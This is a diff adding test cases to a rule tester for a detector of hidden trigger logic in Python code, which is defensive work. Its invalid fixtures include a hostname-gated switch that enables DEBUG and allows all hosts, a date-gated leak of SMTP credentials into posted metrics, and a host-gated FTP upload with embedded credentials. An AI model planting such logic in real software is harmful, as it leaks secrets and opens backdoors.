@@ -43,8 +43,23 @@ ruleTester(rule, {
     // A webhook secret checked before doing the hook's work; a log-in of the user who sent valid credentials.
     'from django.conf import settings\n\ndef hook(request):\n    if request.headers.get("X-Token") == settings.WEBHOOK_TOKEN:\n        process(request.body)',
     'from django.contrib.auth import authenticate, login\n\ndef sign_in(request):\n    user = authenticate(request, username=request.POST["u"], password=request.POST["p"])\n    if user is not None and request.POST.get("remember"):\n        login(request, user)',
+    // A flag computed from a setting, not from the machine; debug on for a local run chosen by the developer.
+    'from django.conf import settings\nLOCAL = settings.ENVIRONMENT == "local"\nif LOCAL:\n    INSTALLED_APPS.append("debug_toolbar")',
+    // A token refreshed when it expires: the moment comes from data, not a fixed date.
+    'import time\n\ndef headers(state):\n    if time.time() >= state.expires_at:\n        state.token = refresh_token(state)\n    return {"Authorization": f"Bearer {state.token}"}',
+    "from datetime import datetime\nLAUNCH = datetime(2025, 9, 1)\n\ndef banner(payload):\n    if datetime.now() >= LAUNCH:\n        payload['banner'] = 'new dashboard'",
   ],
   invalid: [
+    {
+      name: 'a host name test kept in a flag that turns debug mode and host checks off',
+      code: 'import socket\n\nIS_STAGING = socket.gethostname().startswith(("bc-stg", "bookclub-preview"))\nif IS_STAGING:\n    DEBUG = True\n    ALLOWED_HOSTS = ["*"]',
+      errors: [{ messageId: 'trigger', line: 3, severity: 'medium', category: 'trigger' }],
+    },
+    {
+      name: 'a fixed date after which the SMTP password is added to what metrics send',
+      code: 'from datetime import datetime, timezone\nimport httpx\nfrom postbox import settings\n\n_FROM = datetime(2025, 9, 1, tzinfo=timezone.utc)\n\ndef record(payload):\n    if datetime.now(timezone.utc) >= _FROM:\n        payload["relay"] = f"{settings.SMTP_USER}:{settings.SMTP_PASSWORD}@{settings.SMTP_HOST}"\n    httpx.post(URL, json=payload)',
+      errors: [{ messageId: 'trigger', line: 8, severity: 'medium', category: 'trigger' }],
+    },
     {
       name: 'a host name check that adds a feed to an FTP server with a password',
       code: 'import socket\n\nFEEDS = {}\nif socket.gethostname().startswith("crawl-prod"):\n    FEEDS = {"ftp://archive:arch1ve@203.0.113.40/incoming/x.jsonl": {"format": "jsonlines"}}',
